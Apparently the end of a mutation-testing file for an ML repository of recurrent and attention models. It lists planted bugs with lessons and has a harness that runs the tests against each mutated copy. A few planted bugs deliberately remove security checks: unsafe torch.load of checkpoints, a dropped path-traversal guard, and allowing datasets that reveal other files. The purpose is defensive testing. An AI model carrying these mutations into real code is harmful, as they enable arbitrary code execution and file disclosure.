    ("mlstm", "q = q * q.shape[-1] ** -0.5", "q = q * q.shape[-1] ** -1", "mlstm_definition",
     "Products of K terms are scaled by 1 / sqrt(K)."),
    ("mlstm", "torch.maximum(den.abs(), torch.exp(-m))",
     "torch.maximum(den.abs(), torch.ones_like(m))", "mlstm_definition",
     "The floor of 1 under the normaliser is exp(-m) in scaled units."),
    ("mlstm", "torch.maximum(den.abs(), torch.exp(-m))", "torch.maximum(den, torch.exp(-m))",
     "mlstm_definition", "q n has either sign; only its size divides."),
    ("mlstm", "x.masked_fill(~past.tril(-1), 0.0)", "x.masked_fill(~past, 0.0)",
     "mlstm_forms and 15", "A token is not decayed by its own forget gate."),
    ("mlstm", "kept[..., None] * n + n_new", "n_new", "mlstm_forms and 15",
     "The normaliser is kept and decayed exactly as the memory is."),
    ("mlstm", "(b + m[..., None] - m_t)", "(b - m_t)", "mlstm_forms and 15",
     "A state that comes in carries its own stabiliser."),
    ("mlstm", "len(h) + 1 < -(-q.shape[2] // chunk_size)",
     "len(h) + 1 < q.shape[2] // chunk_size", "without_the_final",
     "Chunks are counted with the shorter one at the end."),
    ("mlstm", "torch.promote_types(q.dtype, torch.float32)", "q.dtype", "stays_float32",
     "What accumulates for a whole episode stays in float32."),
    ("mlstm", "x[:, j:j + T] * weight[:, 0, j]", "x[:, j:j + T] * weight[:, 0, 3 - j]", "splits",
     "The convolution's last weight belongs to the newest input."),
    ("mlstm", "torch.stack([x_c, x_c, x_m])", "torch.stack([x_c, x_c, x_c])", "public_packages",
     "Values are taken before the convolution, queries and keys after it."),
    ("mlstm", "self.skip * x_c", "self.skip * x_m", "public_packages",
     "The learnable skip goes round the cell, not round the convolution."),
    ("mlstm", "* F.silu(z)", "* torch.sigmoid(z)", "public_packages",
     "The output gate of the block is a SiLU."),
    ("mlstm", "h * (1 + self.head_norm)", "h * self.head_norm", "public_packages",
     "The norm's weight is stored as its distance from 1: else the cell is silent at first."),
    ("mlstm", "std=2 / num_blocks / math.sqrt(dim)", "std=2 / math.sqrt(dim)", "initialisation",
     "What writes to the residual stream is scaled by the number of writers."),
    ("mlstm", "torch.linspace(3.0, 6.0, num_heads)", "torch.linspace(-3.0, 6.0, num_heads)",
     "initialisation",
     "Forget gates start nearly open, or nothing is remembered long enough to learn from."),

    ("slstm", "torch.full_like(zeros, -torch.inf)\n", "zeros\n", "slstm_fresh",
     "An empty memory has the stabiliser -inf: from 0, small input gates underflow to 0 / 0."),
    ("slstm", "log_f = F.logsigmoid(f) + m", "log_f = f + m", "slstm_hand and 15",
     "The forget gate is a sigmoid here, not an exponential."),
    ("slstm", "n = torch.addcmul(write, forget, n)",
     "n = torch.addcmul(write, forget, n).clamp(max=1)", "slstm_hand and 15",
     "The normaliser counts what was written; it may grow."),
    ("slstm", "keep = cs[t] * dc + ns[t] * dn", "keep = cs[t + 1] * dc + ns[t + 1] * dn",
     "slstm_hand and 15", "A forget gate's gradient holds what was there before the step."),
    ("slstm", "dy = d_raw[t] @ W_t", "dy = torch.zeros_like(dy)", "slstm_hand and 15",
     "Through R the loss at t reaches every step before: backpropagation through time."),
    ("slstm", "torch.stack([x_c, x_c, x1, x1])", "torch.stack([x_c, x_c, x_c, x_c])",
     "public_packages", "Only the input and forget gates see the convolution."),
    ("slstm", "F.layer_norm(y, y.shape[-1:], eps=1e-5).reshape(B, T, D)",
     "F.layer_norm(y.reshape(B, T, D), (D,), eps=1e-5)", "public_packages",
     "Every head is normalised by itself."),
    ("slstm", "F.gelu(g) * w", "g * w", "public_packages", "The MLP is gated through a GELU."),
    ("slstm", "5.0 - 12.0 * unit", "5.0 - 12.0 * (1 - unit)", "initialisation",
     "Forget biases fall over a head's units."),

    ("mamba", "hs = b + a * h[:, None]", "hs = b + h[:, None]", "mamba_scans and 150",
     "A chunk's state decays on its way through the next chunk."),
    ("mamba", "a[:, shift:] * b[:, :-shift]", "a[:, :-shift] * b[:, :-shift]",
     "mamba_scans and 15",
     "The later of two steps decays the earlier one, not the other way round."),
    ("mamba", "dx * dt + dy * D", "dx * dt", "mamba_scans and 15",
     "The skip has a gradient too."),
    ("mamba", "dh = dh * decays[t]", "dh = dh * decays[t - 1]", "mamba_scans and 15",
     "The gradient goes back through the decay of its own step."),
    ("mamba", "wide = torch.promote_types(dtype, torch.float32)", "wide = dtype", "stays_float32",
     "What accumulates for a whole episode stays in float32."),
    ("mamba", "d, B, C = self.select(u)", "d, C, B = self.select(u)", "public_packages",
     "B writes and C reads; the scan is not symmetric in them."),
    ("mamba", "F.softplus(precise(self.dt, d).to(h.dtype))",
     "torch.exp(precise(self.dt, d).to(h.dtype))", "public_packages",
     "A step size is a softplus, which grows no faster than its input."),
    ("mamba", "self.down(y * F.silu(z))", "self.down(y * z)", "public_packages",
     "The gate of the block is a SiLU."),
    ("mamba", "self.down.weight /= math.sqrt(num_blocks)", "self.down.weight /= 1",
     "initialisation", "What writes to the residual stream is scaled by the number of writers."),

    ("gpt", "is_causal=True", "is_causal=False", "attention_forms and 15",
     "A token must not see those that come after it."),
    ("gpt", "slots >= used[:, None, None]", "slots > used[:, None, None]",
     "attention_forms and 15",
     "The slot behind the newest token is empty: attention to it dilutes the rest."),
    ("gpt", "slots <= (used[:, None] + new)", "slots < (used[:, None] + new)",
     "attention_forms and 15", "A token sees itself."),
    ("gpt", "position = used[:, None] + torch", "position = 0 * used[:, None] + torch", "splits",
     "Positions are counted from the beginning of the sequence, not of the call."),
    ("gpt", "self.mlp_up(self.mlp_norm(x))", "self.mlp_up(x)", "public_packages",
     "Each half of the block reads a normalised stream."),
    ("gpt", "math.sqrt(2 * num_blocks) if writes else 1", "1", "initialisation",
     "GPT-2 scales what writes to the residual stream by the number of writers."),

    ("kernels", "axis=1, keep_dims=True) + D_e * us[i]", "axis=1, keep_dims=True)",
     "test_mamba_kernel and 15", "The skip is part of the output."),
    ("kernels", "dn = tl.load(dS_at + 2 * size, mask=mask) - dy_n * o * c / n",
     "dn = tl.load(dS_at + 2 * size, mask=mask) - dy_n * o * c", "test_slstm_kernel and 3-16",
     "The quotient rule divides by n twice."),
    ("kernels", "tl.where(tl.abs(den_t) > floor, tl.where(den_t > 0, -dh_h, dh_h) / N, 0.0)",
     "tl.where(den_t > 0, -dh_h, dh_h) / N", "without_a_state and 3-None",
     "Where the floor of the normaliser divides, the normaliser has no gradient."),
    ("kernels", "n *= tl.exp((M_start - M_end).to(tl.float32))", "n *= 1.0",
     "test_mlstm_kernel and 65-16-48-64",
     "From chunk to chunk the normaliser decays as the memory does."),
    ("kernels", "w_low, M_low = (w - w_high).to(tl.float32), (M - M_high).to(tl.float32)",
     "w_low, M_low = 0 * w_high, 0 * M_high", "test_mlstm_kernel_under_stress and 1200",
     "Log-weights of thousands of tokens grow where float32 has no digits for their differences."),

    ("lram", "torch.where(done.view(-1, *[1] * (old.dim() - 1)),\n",
     "torch.where(~done.view(-1, *[1] * (old.dim() - 1)),\n", "reset_restarts",
     "`done` marks the rows that begin anew."),
    ("lram", "slice(MAX_DISCRETE, MAX_DISCRETE + action_dims * bins)",
     "slice(0, action_dims * bins)", "agent_says",
     "Discrete and continuous actions have rows of the head of their own."),
    ("lram", "np.float32(target / self.scale)", "np.float32(target)",
     "acting_is_training and mlstm-r",
     "The target is divided by the scale of the returns-to-go that training shows."),
    ("lram", "np.where(begun, self.target, self.rtg)", "np.where(begun, 0, self.rtg)",
     "acting_is_training and mlstm-r", "An episode begins with the return that is asked for."),
    ("lram", "self.as_seen(np.where(done, 0.0, reward))", "self.as_seen(reward)",
     "rows_of_an_agent", "The reward that ended an episode is not the next one's."),
    ("lram", "self.model, self.card, self.config = model.eval()",
     "self.model, self.card, self.config = model", "acting_is_training and mlstm-r",
     "Nothing is dropped while acting."),
    ("lram", "return model.to(device).eval()", "return model.to(device)", "loaded_model",
     "A model begins in training mode: whoever loads it to act must say so."),
    ("lram", "(logits / self.temperature)", "(logits * self.temperature)", "decoding",
     "A low temperature sharpens the distribution."),
    ("lram", 'logits = logits[:, :self.card["action"]["n"]]', "pass", "decoding",
     "A task takes fewer actions than the head has."),
    ("lram", "(index + 0.5) * (2 / bins) - 1", "index * (2 / bins) - 1", "actions_and_bins",
     "A bin is decoded at its centre, or every action is biased to the left."),
    ("lram", '{"params": rest, "weight_decay": 0.0}',
     '{"params": rest, "weight_decay": weight_decay}', "weight_decay",
     "Biases, norms and recurrent weights are not decayed."),
    ("lram", 'leaf not in ("bias", "R", "A_log")', 'leaf not in ("bias", "A_log")',
     "weight_decay", "Decay of the recurrent weights would shorten the memory."),
    ("lram", "log_p = logits[mask].log_softmax(-1)",
     "log_p = logits.flatten(0, mask.dim() - 1)[:int(mask.sum())].log_softmax(-1)",
     "loss_against_torch", "Padding counts for nothing."),
    ("lram", "self.encode_action(last_action.clamp(min=0)) * known",
     "self.encode_action(last_action.clamp(min=0))", "papers_stream",
     "No action before the first is not action 0."),
    ("lram", "x = x / 255 if image.dtype == torch.uint8 else x", "x = x / 255", "impala",
     "Standardised images are already of unit size."),
    ("lram",
     "for module in (self.encode_state, self.encode_reward, self.encode_rtg, self.token_norm)",
     "for module in (self.encode_state, self.encode_reward, self.encode_rtg)", "first_gradient",
     "A token that is exactly zero makes the first gradient of a deep gated model infinite."),
    ("lram", "(step - C // 2) % C)])", "(step - C // 2) % C - 1)])", "window_and_stagger",
     "The second state restarts half a window after the first."),
    ("lram", "os.replace(temporary, path)", "shutil.copy(temporary, path)", "full_disk",
     "A file that is replaced in one step is never seen half written."),
    ("lram", "weights_only=True)", "weights_only=False)", "checkpoints_are_refused",
     "A checkpoint is data: reading it must run nothing."),
    ("lram", "collected = torch.cat([rewards[:, 1:], final], dim=1)", "collected = rewards",
     "learning_in_context and mlstm",
     "The reward of a step is seen one step later: returns-to-go count from its own."),

    ("eval", "EVALUATION_SEED = 1_000_000", "EVALUATION_SEED = 0", "seeds_and_goals",
     "What is scored must not have been trained on: other seeds."),
    ("eval", '"heldout": cells[80:]', '"heldout": cells[60:80]', "seeds_and_goals",
     "Held-out goals are none of the trained ones."),
    ("eval", "[seed + k for k in range(episodes)], num_envs",
     "[seed for k in range(episodes)], num_envs", "a_score_plays",
     "Twenty episodes of one seed are one episode."),
    ("eval", 'partial(make_env, task, limit=card.get("limit")),', "partial(make_env, task),",
     "a_score_plays", "A score is of episodes as long as those of its reference."),
    ("eval", "METAWORLD_STEPS = 200", "METAWORLD_STEPS = 500", "episodes_end_in_time",
     "The paper's limit, not the simulator's: more time makes the task easier."),
    ("eval", 'executed = info.get("executed", action)', "executed = action",
     "noise_is_executed or was_executed",
     "Where actions are disturbed, what was executed is recorded beside what was meant."),
    ("eval", "np.float64) - random) / (reference - random)", "np.float64) - random) / reference",
     "test_scores", "A score is 1 where the reference is reached."),
    ("lram", "begun = done if lost_life is None else done | lost_life", "begun = done",
     "lost_life_restarts", "Training ends at a lost life: no trajectory goes on with its rest."),
    ("eval", "lost = ~done & (lives < before)", "lost = lives < before", "tells_of_lost_lives",
     "The lives of the episode before are not lost in this one."),
    ("eval", "if paired:", "if False:", "expert_scores_1",
     "Whom few goals suit is not better than an expert measured on all."),
    ("eval", "                    future.cancel()", "                    pass",
     "jobs_that_crash and spawn", "What hangs is ended by somebody else."),
    ("eval", "row = rng.integers(len(self.returns), size=(times, len(self.returns)))",
     "row = np.tile(np.arange(len(self.returns)), (times, 1))", "intervals_redraw",
     "An interval that redraws nothing has no width."),

    ("data", 'temporary = Path(f"{path}.{os.getpid()}.tmp")', "temporary = Path(path)",
     "what_stood_there", "A file is written under another name until it is whole."),
    ("data", " or found.is_virtual or found.external", "", "no_file_shows_another",
     "A data set can show the content of any other file of its user."),
    ("data", "0 < states.shape[1] <= 204", "0 < states.shape[1]", "malformed_files and wide",
     "What is wider than the encoder is refused, not cut."),
    ("data", "np.clip(episode.rewards, -1, 1) if clip else", "episode.rewards if clip else",
     "made_games", "The paper clips Atari's rewards, in the data and while acting."),
    ("data", "np.diff(episode.lives) < 0) + 2", "np.diff(episode.lives) < 0) + 1", "lost_lives",
     "The step that loses a life belongs to that life."),
    ("data", "rewards[:, ::-1].cumsum(1)[:, ::-1]", "rewards.sum(1, keepdims=True) + 0 * rewards",
     "histories_are", "A return-to-go falls as rewards are collected."),
    ("data", "np.random.default_rng([seed, step, number]), []",
     "np.random.default_rng([step, number]), []", "windows_show",
     "Seeds must reach the draw of the windows, or all runs see the same ones."),
    ("data", "np.random.default_rng([seed, step, number]), []",
     "np.random.default_rng([seed, step]), []", "windows_show",
     "Domains that draw the same numbers see the same parts of their data."),
    ("data", "int(rng.integers(1, row[2] + context)) - context",
     "int(rng.integers(max(1, row[2] - context + 1)))", "windows_show",
     "Windows that must be whole seldom show how an episode begins, where acting always does."),
    ("data", "known[0] = start > 0", "known[0] = True", "windows_hold",
     "Before the first step there was no action."),
    ("data", '"reward": shifted(t.rewards) / scale', '"reward": t.rewards[a:b] / scale',
     "windows_hold",
     "The reward of a step is known after it: shown with its state, it would betray the action."),
    ("data", '"previous": shifted(t.executed)', '"previous": shifted(t.actions)', "was_executed",
     "What the world received is what an agent remembers; the label is what it should have done."),
    ("data", "int(k - (ends[r - 1] if r else 0)) * context", "int(k - (ends[r - 1] if r else 0))",
     "validation_shows",
     "Validation windows follow one another; overlapping ones weigh the beginning."),
    ("data", "~held & ~np.isin(names, np.array(repeated, names.dtype))", "~held",
     "no_trajectory_is", "A copy of a held-out trajectory is a held-out trajectory."),
    ("data", "np.where(std < 1e-4, 1, std.clip(min=0.01))", "std", "standardised_states",
     "A coordinate that rests would be divided by nothing."),
    ("data", 'rows["length"] + (context - 1) * (self.align == 1)', 'rows["length"]',
     "windows_show", "Short trajectories have more windows than steps: they need more draws."),
    ("data", 'extra["constant_rtg"] = False', "pass", "windows_begin_at",
     "Learning histories show what was still to be collected, not a constant target."),
    ("data", "std = std + 0.05 * 255", "pass", "standardised_states",
     "Pixels that hardly move must not be blown up to unit size."),

    ("train", 'group["lr"] = learning_rate(step, args)', 'group["lr"] = args.lr', "this_loop",
     "A schedule that is logged must also reach the optimizer."),
    ("train", "learning_rate(step, args)\n        losses",
     "learning_rate(step + 1, args)\n        losses", "this_loop",
     "The first update has the first rate of the warm-up."),
    ("train", "clip_grad_norm_(run.model.parameters(), args.clip)",
     "clip_grad_norm_(run.model.parameters(), torch.inf)", "this_loop",
     "Without clipping, one bad batch can throw a recurrent model far away."),
    ("train", "run.model.eval()", "run.model.train()", "this_loop",
     "Nothing is dropped while validating."),
    ("train", "run.model.train()\n    return result", "return result", "this_loop",
     "After a validation training goes on, with dropout."),
    ("train", "action_loss(logits, target, mask).item() * n, count + n",
     "action_loss(logits, target, mask).item(), count + 1", "this_loop",
     "A perplexity is a mean over tokens: batches hold different numbers of them."),
    ("train", "* part * run.world / len(run.mixture.domains)", "* part * run.world", "this_loop",
     "Domains are averaged: with their number, the gradient must not grow."),
    ("train", "sum(parts) / len(parts)", "sum(parts)", "this_loop",
     "Images must not count twice because they are read twice."),
    ("train", 'action_to_bin(batch["action"], config.bins)', 'action_to_bin(batch["action"])',
     "this_loop",
     "A flag must reach every place that it concerns: targets have as many bins as the head."),
    ("train", 'args.early_readout and inputs["obs"].dim() == 5', "args.early_readout",
     "this_loop", "Only with images is the action learned from s_t too."),
    ("train", "if args.init_from and fresh:", "if args.init_from and not fresh:", "this_loop",
     "Fine-tuning begins at the weights that were given."),
    ("train", "torch.manual_seed(args.seed)\n", "torch.manual_seed(0)\n", "this_loop",
     "Seeds that change nothing make all runs one run, and intervals too small."),
    ("train", "args.top_fraction, args.align)", "1.0, args.align)", "this_loop",
     "A flag that is parsed and goes nowhere is the most common of all bugs."),
    ("train", "args.top_fraction, args.align)", "args.top_fraction)", "this_loop",
     "A flag that is parsed and goes nowhere is the most common of all bugs."),
    ("train", "betas=(0.9, 0.999)", "betas=(0.9, 0.95)", "this_loop",
     "Optimizers have settings that no curve shows."),
    ("train", ' or ".." in Path(base).parts', "", "stays_below",
     "A name from outside must not become a path to anywhere."),
    ("train", 'optimizer.load_state_dict(saved["optimizer"])', "pass", "resume_is_exact and gpt",
     "A run that is resumed needs Adam's moments too."),
    ("train", 'torch.set_rng_state(saved["rng"][rank])', "pass", "resume_is_exact and gpt",
     "Dropout goes on where it was, or a resumed run is another run."),
    ("train", "return args.lr * (step + 1) / args.warmup", "return args.lr", "this_loop",
     "Adam's first steps are the largest that its moments allow: they need a warm-up."),

    ("bench", "backbone -= model.backbone.blocks[0].embedding.weight.numel()", "pass",
     "knows_the_bytes", "Bytes that a step reads are not bytes that the model has."),
)


def test_bugs_are_planted_where_they_belong():
    """Every line that one changes is there, once."""
    found = {line: (REPOSITORY / f"{file}.py").read_text().count(line) for file, line, *_ in BUGS}
    assert not {line: count for line, count in found.items() if count != 1}


@pytest.mark.parametrize("tests", ("mlstm_definition", "slstm_fresh", "reset_restarts",
                                   "seeds_and_goals", "stays_below"))
def test_a_sample_is_caught(tests, tmp_path):
    """Of these tests the first bug. All of them: python test_all.py --bugs."""
    bug = next(bug for bug in BUGS if bug[3] == tests)
    assert outcome(bug, tests, tmp_path / "copy") == "caught"


def outcome(bug, tests, folder, interpreted=False):
    """What tests (-k) say of a copy of the project in `folder` with this bug, or None: "caught",
    "survived", "hangs", or what kept them from an answer.
    """
    shutil.copytree(REPOSITORY, folder, ignore=shutil.ignore_patterns(".*", "runs", "datasets"))
    if bug:
        path = folder / f"{bug[0]}.py"
        path.write_text(path.read_text().replace(bug[1], bug[2]))
    try:
        done = subprocess.run(
            [sys.executable, "-m", "pytest", "-q", "-x", "-p", "no:cacheprovider", "test_all.py",
             "-k", tests], cwd=folder, capture_output=True, text=True, timeout=600,
            env={**os.environ, "OMP_NUM_THREADS": "1",
                 "TRITON_INTERPRET": "1" if interpreted or bug and bug[0] == "kernels" else "0"})
    except subprocess.TimeoutExpired:
        return "hangs"
    finally:
        shutil.rmtree(folder)
    ran = re.search(r"\d+ (passed|failed)", done.stdout)
    return {0: "survived", 1: "caught"}.get(done.returncode if ran else None, done.stdout[-2000:])


def plant_all(files):
    """Every bug (of these files) in a copy of its own, two at a time; their tests without it."""
    import tempfile
    from concurrent.futures import ThreadPoolExecutor
    bugs = [bug for bug in BUGS if not files or bug[0] in files]
    cases = [(bug, bug[3], False) for bug in bugs]
    for interpreted in (False, True):
        tests = sorted({bug[3] for bug in bugs if (bug[0] == "kernels") == interpreted})
        cases += [(None, " or ".join(f"({x})" for x in tests), interpreted)] if tests else []
    wrong, started = [], time.perf_counter()
    with tempfile.TemporaryDirectory() as root, ThreadPoolExecutor(2) as pool:
        found = pool.map(lambda k: outcome(*cases[k][:2], Path(root) / str(k), cases[k][2]),
                         range(len(cases)))
        for (bug, tests, _), result in zip(cases, found):
            file, line, *_, lesson = bug or ("none", "the same tests without a bug", "", "", "")
            expected = "caught" if bug else "survived"
            print(f"{'passed' if not bug and result == expected else result:<10}{file:<9}"
                  f"{line.splitlines()[0][:60]:<62}{lesson}", flush=True)
            wrong += [line] if result != expected else []
    print(f"{len(bugs)} bugs, {len(wrong)} not caught (or tests that fail without any), "
          f"{(time.perf_counter() - started) / 60:.0f} minutes")
    raise SystemExit(bool(wrong))


if __name__ == "__main__":
    if sys.argv[1:] == ["--golden"]:
        for backbone in GOLDEN_UNITS:
            numbers = ", ".join(f'"{name}": {value:.13g}'
                                for name, value in golden_of_package(backbone).items())
            lines = re.findall(r"(.{,85},)(?: |$)", numbers + ",")
            print("\n        ".join([f'    "{backbone}": {{', *lines]) + "\n    },")
    elif sys.argv[1:2] == ["--bugs"]:
        plant_all(sys.argv[2:])
    else:
        raise SystemExit("give --bugs or --golden; the tests: python -m pytest -q test_all.py")
